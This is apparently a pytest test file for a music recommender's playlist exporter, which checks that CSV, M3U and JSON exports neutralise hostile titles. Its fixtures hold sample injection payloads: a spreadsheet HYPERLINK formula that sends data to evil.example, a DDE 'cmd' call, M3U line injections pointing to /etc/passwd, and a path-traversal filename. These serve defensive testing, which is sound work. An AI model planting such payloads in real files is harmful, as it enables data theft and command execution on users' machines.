"""Playlist exports: hostile titles stay inert in CSV, M3U and JSON; names are safe slugs."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from musicrec import schema as S
from musicrec.cli import main
from musicrec.errors import MusicrecError
from musicrec.export import (
    clean_text,
    export_bytes,
    neutralise_cell,
    playlist_filename,
    playlist_title,
    to_csv,
    to_json,
    to_m3u,
)

GOOD_URI = "spotify:track:4uLU6hMCjMI75M1A2tKUQC"
HOSTILE = [
    # (track, artist, track_uri)
    ('=HYPERLINK("http://evil.example/x?"&A1,"click")', "+cmd|' /C calc'!A0", GOOD_URI),
    ("-2+3", "@SUM(1+1)", None),
    ("\t=1+1", "\r=1+1", None),
    ("Song\nhttp://evil.example/evil.mp3", "Band", None),
    ("x\r\n#EXTINF:1,forged\r\nfile:///etc/passwd", "Band", "spotify:track:abc\nhttp://evil.example/"),
    ("\u202eevil\u202c.mp3 gnoS", "A\x00B\x1b[31mC\u2028D", "musicrec:track:fictional"),
    ("Hyperballad", "Björk", GOOD_URI),
]  # fmt: skip


def recs(rows=HOSTILE) -> pd.DataFrame:
    return pd.DataFrame(
        {
            S.RANK: range(1, len(rows) + 1),
            S.TRACK: [r[0] for r in rows],
            S.ARTIST: [r[1] for r in rows],
            S.ALBUM: ["Post"] * len(rows),
            S.TRACK_URI: pd.array([r[2] for r in rows], dtype="string"),
            S.REASON: ["because"] * len(rows),
            S.DURATION_MS: [241_000.0] + [None] * (len(rows) - 1),
        }
    )


# --- CSV ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Hyperballad", "Hyperballad"),
        ("a=b", "a=b"),
        (-3, -3),
        (None, None),
    ],
)
def test_neutralise_cell(cell, expected):
    assert neutralise_cell(cell) == expected


def test_csv_export_has_no_cell_a_spreadsheet_would_run():
    rows = list(csv.reader(io.StringIO(to_csv(recs()).decode("utf-8"))))
    header, body = rows[0], rows[1:]
    assert header == [S.RANK, S.TRACK, S.ARTIST, S.ALBUM, S.TRACK_URI, S.REASON]
    assert len(body) == len(HOSTILE)
    cells = [c for row in body for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert body[0][1] == "'" + HOSTILE[0][0]  # the text is kept, only made inert
    assert body[-1][:3] == ["7", "Hyperballad", "Björk"]


# --- M3U ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a\nb", "a b"),
        ("a\r\n\r\nb", "a b"),
        ("\u202eevil\u202c", "evil"),
        ("A\x00B\x1b[31mC", "A B [31mC"),
        ("line\u2028sep", "line sep"),
        ("Björk – Jóga", "Björk – Jóga"),
        (None, ""),
        (float("nan"), ""),
    ],
)
def test_clean_text(text, expected):
    assert clean_text(text) == expected


def test_m3u_titles_cannot_add_lines_and_every_track_has_a_safe_location():
    text = to_m3u(recs(), title="Mine\n#EXTINF:0,x\nhttp://evil.example/").decode("utf-8")
    lines = text.split("\n")
    assert lines[-1] == ""  # ends with a newline
    lines = lines[:-1]
    assert lines[:2] == ["#EXTM3U", "#PLAYLIST:Mine #EXTINF:0,x http://evil.example/"]
    assert len(lines) == 2 + 2 * len(HOSTILE)  # no title added a line
    extinf, locations = lines[2::2], lines[3::2]
    assert all(line.startswith("#EXTINF:") for line in extinf)
    assert extinf[0] == f"#EXTINF:241,{HOSTILE[0][1]} - {HOSTILE[0][0]}"
    assert extinf[-1] == "#EXTINF:-1,Björk - Hyperballad"
    assert locations == [
        GOOD_URI,
        *["# no playable location for this track"] * (len(HOSTILE) - 2),
        GOOD_URI,
    ]
    for ch in ("\r", "\x00", "\x1b", "\u202e", "\u202c", "\u2028"):
        assert ch not in text


def test_json_export_round_trips_hostile_titles_as_data():
    rows = json.loads(to_json(recs()))
    assert [r[S.TRACK] for r in rows] == [r[0] for r in HOSTILE]
    assert rows[1][S.TRACK_URI] is None


# --- names and formats ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("title", "suffix", "expected"),
    [
        ("musicrec: chill, relax, 23:00", ".csv", "musicrec-chill-relax-23-00.csv"),
        ("../../etc/passwd", ".m3u", "etc-passwd.m3u"),
        ("Café Ñoño · Jóga", ".json", "cafe-nono-joga.json"),
        ("", ".csv", "musicrec-playlist.csv"),
        (None, ".csv", "musicrec-playlist.csv"),
        ("日本語", ".m3u", "musicrec-playlist.m3u"),
        ("x" * 200, ".csv", "x" * 60 + ".csv"),
    ],
)
def test_playlist_filename_is_a_safe_slug(title, suffix, expected):
    assert playlist_filename(title, suffix) == expected


def test_playlist_title_from_the_request():
    assert playlist_title("chill", "relax", 23) == "musicrec: chill, relax, 23:00"
    assert playlist_title(None, None, None) == "musicrec playlist"
    assert playlist_title("a\nb", None, 7) == "musicrec: a b, 07:00"


def test_export_bytes_by_suffix():
    r = recs()
    assert export_bytes(r, ".CSV") == to_csv(r)
    assert export_bytes(r, ".m3u8", "t") == to_m3u(r, "t")
    with pytest.raises(MusicrecError, match=r"use \.csv, \.json or \.m3u"):
        export_bytes(r, ".xlsx")


# --- the terminal gets the same exports ------------------------------------------------------


def test_recommend_out_writes_the_same_exports_as_the_app(tmp_path, capsys):
    base = ["recommend", "--mood", "chill", "--hour", "23", "--k", "6"]
    for suffix in (".csv", ".json", ".m3u"):
        assert main([*base, "--out", str(tmp_path / f"list{suffix}")]) == 0
    capsys.readouterr()
    rows = list(csv.reader(io.StringIO((tmp_path / "list.csv").read_text(encoding="utf-8"))))
    assert len(rows) == 7 and rows[0][:3] == [S.RANK, S.TRACK, S.ARTIST]
    listed = json.loads((tmp_path / "list.json").read_text(encoding="utf-8"))
    assert [r[S.TRACK] for r in listed] == [r[1] for r in rows[1:]]
    m3u = (tmp_path / "list.m3u").read_text(encoding="utf-8").splitlines()
    assert m3u[:2] == ["#EXTM3U", "#PLAYLIST:musicrec: chill, 23:00"]
    assert len(m3u) == 2 + 2 * 6
    # the demo's tracks are fictional: no location, a comment line each
    assert set(m3u[3::2]) == {"# no playable location for this track"}
    assert main([*base, "--out", str(tmp_path / "list.xlsx")]) == 2
    assert "use .csv, .json or .m3u" in capsys.readouterr().err
    assert not (tmp_path / "list.xlsx").exists()
